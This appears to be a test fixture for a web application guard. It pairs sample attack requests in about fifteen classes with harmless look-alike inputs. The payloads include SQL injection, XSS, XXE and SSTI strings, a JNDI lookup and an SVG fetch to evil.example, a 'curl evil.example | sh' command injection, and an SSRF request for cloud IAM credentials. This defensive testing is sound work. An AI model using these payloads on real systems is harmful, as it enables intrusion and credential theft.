/** What the demo sends against itself: one request for each class of attack, and harmless ones that look alike. */
import type { ThreatClass } from '../src/guard/threats.ts'

export interface Attempt {
  readonly method: string
  readonly target: string
  readonly headers?: Readonly<Record<string, string>>
  readonly body?: string
}

const JSON_TYPE = { 'Content-Type': 'application/json' }
const FORM_TYPE = { 'Content-Type': 'application/x-www-form-urlencoded' }
const query = (value: string): Attempt => ({
  method: 'GET',
  target: `/api/markets?category=${encodeURIComponent(value)}`,
})
const json = (body: unknown): Attempt => ({
  method: 'POST',
  target: '/api/markets',
  headers: JSON_TYPE,
  body: JSON.stringify(body),
})
const form = (name: string, value: string): Attempt => ({
  method: 'POST',
  target: '/api/accounts',
  headers: FORM_TYPE,
  body: `${name}=${encodeURIComponent(value)}`,
})

export const ATTACKS: readonly (readonly [ThreatClass, Attempt])[] = [
  ['sqli', query("x' OR 1=1 --")],
  ['sqli', json({ question: "q'; DROP TABLE accounts; --" })],
  ['sqli', form('name', "a' UNION SELECT password FROM users--")],
  ['xss', query('<img src=x onerror=alert(1)>')],
  ['xss', json({ question: { text: '<svg/onload=fetch(`//evil.example`)>' } })],
  ['path-traversal', { method: 'GET', target: '/api/%2e%2e/%2e%2e/%2e%2e/etc/passwd' }],
  ['path-traversal', query('..%2f..%2f..%2fetc%2fpasswd')],
  ['rce', form('name', '; cat /etc/passwd')],
  ['rce', query('$(curl http://evil.example/x.sh | sh)')],
  ['ssti', form('name', "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}")],
  [
    'xxe',
    {
      method: 'POST',
      target: '/api/markets',
      headers: { 'Content-Type': 'application/xml' },
      body: '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
    },
  ],
  ['nosql', json({ name: { $ne: null }, password: { $gt: '' } })],
  ['ldap', form('name', '*)(uid=*))(|(uid=*')],
  ['jndi', { method: 'GET', target: '/api/markets', headers: { 'X-Api-Version': '${jndi:ldap://evil.example/a}' } }],
  ['ssrf', json({ callback: 'http://169.254.169.254/latest/meta-data/iam/security-credentials/' })],
  [
    'prototype-pollution',
    { method: 'POST', target: '/api/markets', headers: JSON_TYPE, body: '{"__proto__":{"admin":true}}' },
  ],
  ['php', query('<?php system($_GET["c"]); ?>')],
  ['nodejs', form('name', "require('child_process').execSync('id')")],
  [
    'scanner',
    { method: 'GET', target: '/api/markets', headers: { 'User-Agent': 'sqlmap/1.8.2#stable (https://sqlmap.org)' } },
  ],
]

export const LOOKALIKES: readonly Attempt[] = [
  query("O'Brien & Sons"),
  query('5 > 3 and 2 < 4'),
  query('union of the select committee'),
  query('what if 1 = 1?'),
  json({ question: 'Will the European Union select a new seat; or drop the table of members?' }),
  json({ question: "It's <b>bold</b> to say 100 % or more -- but true." }),
  json({ question: 'Is C:\\Windows older than /etc?' }),
  form('name', "D'Angelo Müller-O'Connor"),
  form('name', 'Tom; Cat & Dog | Friends'),
  form('name', 'Робота $100 {free}'),
]
